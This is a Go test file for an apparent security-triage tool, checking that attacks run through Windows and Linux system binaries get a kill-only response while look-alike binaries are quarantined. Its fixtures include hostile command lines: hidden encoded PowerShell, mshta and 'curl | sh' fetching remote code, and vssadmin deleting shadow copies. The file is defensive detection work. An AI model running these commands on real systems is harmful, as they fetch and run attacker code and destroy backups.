package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/s1copilot/s1copilot/investigation"
)

// When an attack runs through the operating system's own binaries, the process is
// killed and the binary left alone: quarantining powershell.exe or /usr/bin/bash
// breaks the host and removes nothing of the attack.
func TestOSBinariesAreKilledNotQuarantined(t *testing.T) {
	lolbin := func(path, pub, cmd string) investigation.ThreatFacts {
		return desktop(investigation.ThreatFacts{ThreatName: path[len(path)-12:], FilePath: path, ConfidenceLevel: "malicious",
			FileVerificationType: "SignedVerified", PublisherName: pub, CommandLine: cmd, OriginatorProcess: "explorer.exe"})
	}
	for name, f := range map[string]investigation.ThreatFacts{
		"encoded powershell": lolbin(`\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "Microsoft Windows",
			"powershell.exe -nop -w hidden -enc JABjAD0ATgBlAHcA"),
		"rundll32 from SysWOW64": lolbin(`\Device\HarddiskVolume3\Windows\SysWOW64\rundll32.exe`, "Microsoft Windows",
			`rundll32.exe C:\Users\a\AppData\Local\Temp\x.dll,Start`),
		"mshta, signed Microsoft Corporation": lolbin(`C:\Windows\System32\mshta.exe`, "Microsoft Corporation", "mshta.exe http://cdn.example/a.hta"),
		"wmic under wbem":                     lolbin(`C:\Windows\System32\wbem\WMIC.exe`, "Microsoft Windows", `wmic process call create "powershell -enc JAB"`),
	} {
		t.Run(name, func(t *testing.T) {
			a := analyze(t, f)
			assert.Equal(t, truePositive, a.Verdict)
			assert.Equal(t, acts(kill), a.RecommendedActions)
			assert.Contains(t, a.Summary, "Not recommended: quarantine (the file is Windows' own")
		})
	}

	// Ransomware through vssadmin: undo and isolate, but neither quarantine nor
	// remediate the OS binary.
	vss := analyze(t, server(investigation.ThreatFacts{ThreatName: "vssadmin.exe", FilePath: `C:\Windows\System32\vssadmin.exe`,
		FileVerificationType: "SignedVerified", PublisherName: "Microsoft Windows", ConfidenceLevel: "malicious",
		CommandLine: "vssadmin.exe delete shadows /all /quiet", OriginatorProcess: "cmd.exe"}))
	assert.Equal(t, acts(kill, rollback, isolate, forensics), vss.RecommendedActions)

	shell := analyze(t, investigation.ThreatFacts{ThreatID: "1", ThreatName: "bash", FilePath: "/usr/bin/bash", OSType: "linux",
		MachineType: "server", ConfidenceLevel: "malicious", CommandLine: "bash -c 'curl -s http://198.51.100.7/x | sh'"})
	assert.Equal(t, acts(kill), shell.RecommendedActions)
	assert.Contains(t, shell.Summary, "the system's own /usr/bin/bash")
}

// Only the genuine article is spared: the same name unsigned, or outside the system
// directories, is the attacker's file.
func TestLookAlikesOfOSBinariesAreQuarantined(t *testing.T) {
	for name, f := range map[string]investigation.ThreatFacts{
		"unsigned rundll32 in Public": desktop(investigation.ThreatFacts{ThreatName: "rundll32.exe", FilePath: `C:\Users\Public\rundll32.exe`,
			ConfidenceLevel: "malicious"}),
		"unsigned binary in System32": desktop(investigation.ThreatFacts{ThreatName: "svchost.exe", FilePath: `C:\Windows\System32\svhost.exe`,
			ConfidenceLevel: "malicious", FileVerificationType: "NotSigned"}),
		"signed by someone else": desktop(investigation.ThreatFacts{ThreatName: "certutil.exe", FilePath: `C:\Windows\System32\certutil.exe`,
			ConfidenceLevel: "malicious", FileVerificationType: "SignedVerified", PublisherName: "Totally Legit Ltd"}),
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, acts(kill, quarantine), analyze(t, f).RecommendedActions)
		})
	}
}

// A fileless threat's file is the process that hosted it, whatever its path.
func TestFilelessThreatsAreNotQuarantined(t *testing.T) {
	a := analyze(t, desktop(investigation.ThreatFacts{ThreatName: "node.exe", FilePath: `C:\Program Files\nodejs\node.exe`,
		ConfidenceLevel: "malicious", IsFileless: true}))
	assert.Equal(t, acts(kill), a.RecommendedActions)
	assert.Contains(t, a.Summary, "fileless")
}
